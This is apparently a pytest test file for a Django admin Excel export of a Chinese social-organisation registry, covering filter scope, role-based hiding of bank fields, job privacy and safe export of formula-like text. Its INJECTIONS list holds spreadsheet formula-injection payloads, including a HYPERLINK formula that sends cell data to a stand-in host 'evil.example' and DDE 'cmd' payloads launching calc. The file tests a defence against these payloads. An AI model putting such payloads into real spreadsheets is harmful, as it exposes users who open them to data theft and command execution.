import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from accounts.roles import Role
from core.excel import FORMULA_TRIGGERS
from core.models import BackgroundJob
from core.workflow import run_transition
from orgs.exports import export_workbook
from orgs.imports import import_organisations
from orgs.models import Organisation, OrganisationStatus, OrgType
from tests.factories import OrganisationFactory, UserFactory, staff

pytestmark = pytest.mark.django_db


def verified(**kwargs):
    org = OrganisationFactory(**kwargs)
    run_transition(org, "submit", by=None)
    run_transition(org, "verify", by=None)
    return org


@pytest.fixture
def registry(regions):
    """Three verified and one draft in 鄂城区, one verified in 华容区."""
    return {
        "fenghuang": verified(name="凤凰甲", region=regions["fenghuang"], bank_account="6221000188000001"),
        "community": verified(name="凤凰社区乙", region=regions["fenghuang_c"], org_type=OrgType.SOCIAL_GROUP),
        "gulou": verified(name="古楼丙", region=regions["gulou"]),
        "draft": OrganisationFactory(name="凤凰草稿丁", region=regions["fenghuang"]),
        "huarong": verified(name="华容戊", region=regions["huarong_town"]),
    }


def rows_of(content: bytes) -> tuple[list[str], list[dict]]:
    ws = load_workbook(io.BytesIO(content)).active
    values = list(ws.iter_rows(values_only=True))
    headers = list(values[0])
    return headers, [dict(zip(headers, r, strict=True)) for r in values[1:]]


def run_export(client, user, query, capture):
    """POST to the export URL with the list's query string, as the list's button does."""
    client.force_login(user)
    with capture(execute=True):
        response = client.post("/admin/orgs/export/" + query)
    assert response.status_code == 302, response.content.decode()[:500]
    job = BackgroundJob.objects.filter(created_by=user).latest("pk")
    assert response["Location"] == f"/admin/jobs/{job.pk}/"
    assert job.status == BackgroundJob.Status.SUCCEEDED, job.message
    download = client.get(f"/admin/jobs/{job.pk}/download/")
    assert download.status_code == 200
    return job, rows_of(b"".join(download.streaming_content))


def test_export_holds_exactly_the_filtered_rows_in_scope(client, regions, registry, django_capture_on_commit_callbacks):
    manager = staff(Role.CALL_MANAGER, regions["echeng"])
    job, (headers, rows) = run_export(client, manager, "?status=verified", django_capture_on_commit_callbacks)
    assert {r["名称"] for r in rows} == {"凤凰甲", "凤凰社区乙", "古楼丙"}
    assert job.result_name.startswith("社会组织名录-") and job.result_name.endswith(".xlsx")
    assert "导出完成，共 3 个组织" in job.message

    _, (_, rows) = run_export(
        client, manager, f"?region={regions['fenghuang'].pk}&org_type=service_org", django_capture_on_commit_callbacks
    )
    assert {r["名称"] for r in rows} == {"凤凰甲", "凤凰草稿丁"}

    _, (_, rows) = run_export(client, manager, "?q=凤凰", django_capture_on_commit_callbacks)
    assert {r["名称"] for r in rows} == {"凤凰甲", "凤凰社区乙", "凤凰草稿丁"}

    city = staff(Role.CALL_MANAGER, regions["city"])
    _, (_, rows) = run_export(client, city, "?go=1", django_capture_on_commit_callbacks)
    assert len(rows) == 5


def test_export_columns_and_values(client, regions, registry, django_capture_on_commit_callbacks):
    manager = staff(Role.CALL_MANAGER, regions["echeng"])
    _, (headers, rows) = run_export(client, manager, "?q=凤凰甲", django_capture_on_commit_callbacks)
    assert headers[:3] == ["名称", "类型", "统一社会信用代码"]
    assert {"所属区域", "服务领域", "登记状态", "评估等级", "最近年检结果", "银行账号"} <= set(headers)
    (r,) = rows
    org = registry["fenghuang"]
    assert r["统一社会信用代码"] == org.uscc
    assert r["类型"] == "民办非企业单位（社会服务机构）"
    assert r["所属区域"] == "鄂州市鄂城区凤凰街道"
    assert r["登记状态"] == "已认证"
    assert r["银行账号"] == "6221000188000001"
    assert r["成立日期"].date() == org.founded_on


def test_bank_fields_only_for_users_who_may_change_organisations(
    client, regions, registry, django_capture_on_commit_callbacks
):
    auditor = staff(Role.AUDITOR, regions["echeng"])
    _, (headers, rows) = run_export(client, auditor, "?go=1", django_capture_on_commit_callbacks)
    assert not {"开户银行", "账户名称", "银行账号"} & set(headers)
    assert len(rows) == 4
    assert "6221000188000001" not in str(rows)


def test_export_refuses_a_region_outside_scope_and_users_without_permission(client, regions, registry):
    manager = staff(Role.CALL_MANAGER, regions["echeng"])
    client.force_login(manager)
    response = client.post(f"/admin/orgs/export/?region={regions['huarong'].pk}", follow=True)
    assert "筛选条件无效" in response.content.decode()
    assert not BackgroundJob.objects.exists()

    client.force_login(staff(Role.REVIEWER, regions["echeng"]))
    response = client.post("/admin/orgs/export/?go=1")
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert not BackgroundJob.objects.exists()


def test_empty_query_shows_the_filter_form(client, regions):
    client.force_login(staff(Role.CALL_MANAGER, regions["echeng"]))
    html = client.get("/admin/orgs/export/").content.decode()
    assert "开始导出" in html and "登记状态" in html
    assert not BackgroundJob.objects.exists()


def test_export_job_page_is_private(client, regions, registry, django_capture_on_commit_callbacks):
    manager = staff(Role.CALL_MANAGER, regions["echeng"])
    job, _ = run_export(client, manager, "?go=1", django_capture_on_commit_callbacks)
    client.force_login(staff(Role.CALL_MANAGER, regions["echeng"]))
    assert client.get(f"/admin/jobs/{job.pk}/").status_code == 404
    assert client.get(f"/admin/jobs/{job.pk}/download/").status_code == 404


def test_an_export_imports_back_unchanged(regions, registry):
    superuser = UserFactory(is_superuser=True, is_staff=True)
    content, rows = export_workbook(superuser, {})
    assert rows == 5
    before = {o.pk: (o.updated_at, o.status) for o in Organisation.objects.all()}
    result = import_organisations(io.BytesIO(content), user=superuser)
    assert (result.created, result.updated, result.unchanged, result.rejected) == (0, 0, 5, [])
    assert {o.pk: (o.updated_at, o.status) for o in Organisation.objects.all()} == before
    assert Organisation.objects.get(name="凤凰草稿丁").status == OrganisationStatus.DRAFT


def test_a_get_never_starts_an_export(client, regions, registry):
    """Defect 12: a GET (a link, a prefetch) shows the form, prefilled, and starts nothing."""
    client.force_login(staff(Role.CALL_MANAGER, regions["echeng"]))
    response = client.get("/admin/orgs/export/?status=verified&go=1")
    html = response.content.decode()
    assert response.status_code == 200 and "开始导出" in html and 'method="post"' in html
    (status_input,) = [i for i in re.findall(r"<input[^>]*>", html) if 'name="status"' in i and 'value="verified"' in i]
    assert "checked" in status_input
    assert not BackgroundJob.objects.exists()


def test_the_form_posts_its_filters(client, regions, registry, django_capture_on_commit_callbacks):
    manager = staff(Role.CALL_MANAGER, regions["echeng"])
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        # the form's own fields win over the query string it was opened with (here: cleared)
        response = client.post("/admin/orgs/export/?status=verified", {"q": "凤凰", "status": ""})
    job = BackgroundJob.objects.get()
    assert response["Location"] == f"/admin/jobs/{job.pk}/"
    assert job.params == {"filters": {"q": "凤凰"}}
    _, rows = rows_of(b"".join(client.get(f"/admin/jobs/{job.pk}/download/").streaming_content))
    assert {r["名称"] for r in rows} == {"凤凰甲", "凤凰社区乙", "凤凰草稿丁"}


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "#N/A",
]


def test_formula_like_text_is_exported_as_text(regions):
    """Defect 4: an organisation whose name (or any text) looks like a formula is written as
    a string cell (never a formula), marked quotePrefix so Excel keeps it text on edit, and
    reads back exactly as stored."""
    superuser = UserFactory(is_superuser=True, is_staff=True)
    for text in INJECTIONS:
        verified(name=text, address=text, region=regions["fenghuang"])
    content, rows = export_workbook(superuser, {})
    assert rows == len(INJECTIONS)
    ws = load_workbook(io.BytesIO(content)).active
    headers = [c.value for c in ws[1]]
    name_col, address_col = headers.index("名称"), headers.index("住所")
    for row in ws.iter_rows(min_row=2):
        for c in (row[name_col], row[address_col]):
            assert c.value in INJECTIONS
            assert c.data_type == "s", (c.value, c.data_type)
            assert c.quotePrefix == c.value.startswith(FORMULA_TRIGGERS)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
